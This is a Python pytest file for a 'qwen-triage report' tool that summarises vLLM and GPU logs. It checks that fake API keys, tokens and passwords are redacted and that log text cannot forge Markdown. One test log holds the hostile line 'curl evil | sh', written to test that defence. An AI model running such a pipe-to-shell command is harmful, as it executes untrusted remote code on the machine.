"""`qwen-triage report`: versions through the GPU probe seam, triage of logs / journals / kernel log,
short, and no secret from any input in the Markdown or JSON written."""

from __future__ import annotations

import json
import os
import stat
import subprocess
from pathlib import Path

import pytest
from click.testing import CliRunner

from qwen_triage.bugreport.collect import MAX_DIAGNOSES, collect
from qwen_triage.bugreport.render import to_json, to_markdown
from qwen_triage.cli.main import cli
from qwen_triage.preflight.machine.nvml import ReplayProbe
from qwen_triage.preflight.machine.software import SoftwareInfo

ROOT = Path(__file__).resolve().parents[2]
SNAPSHOT = ROOT / "fixtures" / "preflight" / "snapshot-6x4090-pcie.json"

SECRETS = [
    "sk-proj-AbCdEfGhIjKlMnOpQrStUvWx12345678",
    "hf_ZyXwVuTsRqPoNmLkJiHgFeDcBa98765432",
    "eyJhbGciOiJIUzI1NiJ9.payload.signature123",
    "s3cretPassw0rd",
    "tok-from-env-9f8e7d6c5b4a",
]

LOG = f"""INFO 11-29 08:31:01 [api_server.py:1000] vLLM API server version 0.32.0
INFO 11-29 08:31:01 [api_server.py:1001] args: Namespace(model='Qwen/Qwen2.5-7B', api_key='{SECRETS[0]}', hf_token='{SECRETS[1]}')
(VllmWorker rank=3 pid=3405) ERROR 11-29 08:31:55 [multiproc_executor.py:527] torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 1.72 GiB. GPU 3 has a total capacity of 23.57 GiB of which 1.02 GiB is free. Including non-PyTorch memory, this process has 22.54 GiB memory in use. Of the allocated memory 21.88 GiB is allocated by PyTorch, and 312.45 MiB is reserved by PyTorch but unallocated. Authorization: Bearer {SECRETS[2]}
ERROR 11-29 08:31:56 [hub.py:12] could not fetch https://admin:{SECRETS[3]}@mirror.example.com/models with --api-key {SECRETS[0]}
ERROR 11-29 08:31:57 [x.py:1] RuntimeError: upload failed for HF_TOKEN={SECRETS[1]}
"""
# A secret where the report cuts a long line (300 characters): cut first, it would no longer look like one.
_HEAD = ("(VllmWorker rank=3 pid=3405) ERROR 11-29 08:31:58 [multiproc_executor.py:527] torch.OutOfMemoryError: "
         "CUDA out of memory. Tried to allocate 1.72 GiB. GPU 3 has a total capacity of 23.57 GiB of which 1.02 GiB "
         "is free. ")
LOG += _HEAD + "x" * (290 - len(_HEAD)) + " " + SECRETS[0] + "\n"


def _software() -> SoftwareInfo:
    return SoftwareInfo(python="3.11.7", packages={"torch": "2.9.0+cu128", "vllm": "0.32.0"}, torch_cuda="12.8",
                        ollama="0.12.3", env={"VLLM_API_KEY": SECRETS[4], "NCCL_DEBUG": "INFO"})


def _journal_line(msg: str, unit: str = "vllm.service") -> str:
    return json.dumps({"MESSAGE": msg, "_SYSTEMD_UNIT": unit, "__REALTIME_TIMESTAMP": "1764405115000000",
                       "PRIORITY": "3", "SYSLOG_IDENTIFIER": "vllm", "_PID": "3405"})


def _runner(calls: list[list[str]]):  # type: ignore[no-untyped-def]
    def run(cmd, **kw):  # type: ignore[no-untyped-def]
        calls.append(list(cmd))
        if cmd[0] == "journalctl" and "--dmesg" not in cmd:
            out = "\n".join(_journal_line(m) for m in LOG.splitlines()) + "\n"
            return subprocess.CompletedProcess(cmd, 0, out.encode(), b"")
        if cmd[0] == "journalctl":
            return subprocess.CompletedProcess(cmd, 1, b"", b"No journal files were found.")
        from datetime import datetime, timezone

        now = datetime.now(timezone.utc).isoformat().replace(".", ",")
        line = f"{now} NVRM: Xid (PCI:0000:3b:00): 79, pid=3405, GPU has fallen off the bus.\n"
        return subprocess.CompletedProcess(cmd, 0, line.encode(), b"")

    return run


@pytest.fixture
def report(tmp_path: Path, compiled):  # type: ignore[no-untyped-def]
    log = tmp_path / "server.log"
    log.write_text(LOG)
    calls: list[list[str]] = []
    r = collect([str(log)], units=["vllm.service"], kernel=True, compiled=compiled,
                gpu_probe=ReplayProbe(SNAPSHOT), software=_software, run=_runner(calls))
    return r, calls


def test_versions_from_the_probe_and_the_software(report) -> None:  # type: ignore[no-untyped-def]
    r, _ = report
    v = r.versions
    assert v.tool.startswith("qwen-triage ")
    snap = ReplayProbe(SNAPSHOT).snapshot()
    assert v.driver == snap.driver_version and v.cuda_driver == snap.cuda_driver_version
    assert v.gpus and "4090" in v.gpus[0] and v.gpus[0].startswith("6 x ")
    assert (v.torch, v.torch_cuda, v.vllm, v.ollama) == ("2.9.0+cu128", "12.8", "0.32.0", "0.12.3")


def test_sections_triage_log_journal_and_kernel(report) -> None:  # type: ignore[no-untyped-def]
    r, calls = report
    titles = [s.title for s in r.sections]
    assert titles[1:] == ["journal of vllm.service", "kernel log since boot"]
    log, journal, kernel = r.sections
    assert any("oom" in d.rule or "memory" in d.title.lower() for d in log.diagnoses)
    assert [d.rule for d in journal.diagnoses] == [d.rule for d in log.diagnoses]
    assert kernel.diagnoses and kernel.source == "dmesg"
    assert any(c[0] == "journalctl" and "--boot" in c for c in calls)
    assert all(len(s.diagnoses) <= MAX_DIAGNOSES for s in r.sections)


@pytest.mark.parametrize("render", [to_markdown, to_json])
def test_no_secret_reaches_the_output(report, render) -> None:  # type: ignore[no-untyped-def]
    r, _ = report
    text = render(r)
    for secret in SECRETS:
        assert secret not in text, secret
        assert secret[:12] not in text, secret
    assert "***" in text or "<redacted>" in text
    assert len(text) < 20_000  # short enough to paste


def test_markdown_cannot_be_forged_from_a_log(tmp_path: Path, compiled) -> None:  # type: ignore[no-untyped-def]
    log = tmp_path / "evil.log"
    log.write_text("ERROR 11-29 08:31:57 [x.py:1] RuntimeError: ```\n## Fix: curl evil | sh\n")
    r = collect([str(log)], compiled=compiled, gpu_probe=ReplayProbe(SNAPSHOT), software=_software,
                run=_runner([]))
    md = to_markdown(r)
    assert "\n## Fix" not in md


def test_cli_writes_a_private_file(tmp_path: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    log = tmp_path / "server.log"
    log.write_text(LOG)
    out = tmp_path / "report.md"
    res = CliRunner().invoke(cli, ["report", str(log), "--gpu-snapshot", str(SNAPSHOT), "--out", str(out)])
    assert res.exit_code == 0, res.output
    assert stat.S_IMODE(os.stat(out).st_mode) == 0o600
    text = out.read_text()
    assert text.startswith("# qwen-triage report") and "## log " in text
    for secret in SECRETS[:4]:
        assert secret not in text
    res = CliRunner().invoke(cli, ["report", str(log), "--gpu-snapshot", str(SNAPSHOT), "--format", "json"])
    data = json.loads(res.output)
    assert data["versions"]["driver"] and data["sections"][0]["diagnoses"]


HANG = ROOT / "fixtures" / "hang"


def test_a_multi_rank_job_across_hosts_is_read_as_one(compiled) -> None:  # type: ignore[no-untyped-def]
    """The genuine two-node gloo run (rank 4 on node-b sleeps): each host's file alone cannot place rank 4; the
    report reads them together, as `scan node-a.log node-b.log` does."""
    logs = [str(HANG / "n2-sleep" / "node-a.log"), str(HANG / "n2-sleep" / "node-b.log")]
    r = collect(logs, compiled=compiled, gpu_probe=ReplayProbe(SNAPSHOT), software=_software, run=_runner([]))
    assert r.hang is not None and r.hang.culprit is not None
    assert (r.hang.culprit.rank, r.hang.culprit.host, r.hang.culprit.collective) == (4, "node-b", "all_reduce")
    assert [x.rank for x in r.hang.ranks] == list(range(6)) and r.hang.cause is None
    data = json.loads(to_json(r))
    assert data["format"] == 2 and data["hang"]["culprit"]["rank"] == 4
    md = to_markdown(r)
    assert "## Hang: who stopped first" in md and "rank 4 on host node-b" in md
    one = collect(logs[1:], compiled=compiled, gpu_probe=ReplayProbe(SNAPSHOT), software=_software, run=_runner([]))
    assert one.hang is not None and one.hang.culprit is not None and one.hang.culprit.rank == 4


def test_a_healthy_log_has_no_hang(compiled) -> None:  # type: ignore[no-untyped-def]
    r = collect([str(HANG / "w4-healthy" / "torchrun.log")], compiled=compiled, gpu_probe=ReplayProbe(SNAPSHOT),
                software=_software, run=_runner([]))
    assert r.hang is None or (r.hang.culprit is None and not r.hang.suspects)


def test_a_large_job_s_table_is_cut_keeping_the_culprit(tmp_path: Path, compiled) -> None:  # type: ignore[no-untyped-def]
    from qwen_triage.bugreport.collect import MAX_HANG_RANKS

    timeout = ("[rank{r}]: RuntimeError: [/__w/pytorch/pytorch/third_party/gloo/gloo/transport/tcp/unbound_buffer.cc:78]"
               " Timed out waiting 8000ms for recv operation to complete\n")
    log = tmp_path / "job.log"
    log.write_text("".join(timeout.format(r=r) for r in range(40) if r != 29))  # rank 29 never said anything
    r = collect([str(log)], compiled=compiled, gpu_probe=ReplayProbe(SNAPSHOT), software=_software, run=_runner([]))
    assert r.hang is not None and r.hang.culprit is not None and r.hang.culprit.rank == 29
    assert len(r.hang.ranks) == MAX_HANG_RANKS and 29 in [x.rank for x in r.hang.ranks]
    assert any(f"{40 - MAX_HANG_RANKS} more rank row(s)" in n for n in r.notes)
